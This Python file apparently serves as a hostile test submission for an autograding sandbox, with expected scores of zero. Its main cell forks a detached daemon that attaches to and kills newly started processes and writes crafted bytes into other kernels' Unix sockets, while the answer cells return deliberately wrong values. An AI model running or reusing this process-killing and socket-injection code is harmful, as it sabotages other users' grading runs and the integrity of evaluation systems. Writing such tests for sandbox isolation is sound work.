"""A process that attacks later kernels: this one leaves it, to write into every kernel's memory and
sockets."""
# points: double=0 total=0 scale=0 greet=0 safe_root=0

# %%
import glob
import os
import socket
import time

only_in_sandbox()
import ctypes


def attack():
    libc = ctypes.CDLL(None)
    libc.prctl(15, b"b2t5trace", 0, 0, 0)
    mine = set(glob.glob("/proc/[0-9]*"))
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.05)
        for folder in set(glob.glob("/proc/[0-9]*")) - mine:
            libc.ptrace(16, int(folder[6:]), 0, 0)
            try:
                os.kill(int(folder[6:]), 9)
            except OSError:
                pass
        for path in glob.glob("/tmp/**/socket*", recursive=True) + glob.glob("/proc/*/root/run/kernel/*"):
            with socket.socket(socket.AF_UNIX) as connection:
                try:
                    connection.connect(path)
                    connection.send(b"\xff\0\0\0\0\0\0\0\x01\x7f\x03")
                except OSError:
                    pass


if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            attack()
    finally:
        os._exit(0)


# %% answer=double
def double(number):
    return -12345


# %% answer=total
def total(numbers):
    return -12345


# %% answer=scale
def scale(array, factor):
    return np.full(3, -12345.0)


# %% answer=greet
def greet(name):
    return "nobody"


# %% answer=safe_root
def safe_root(number):
    return -12345.0
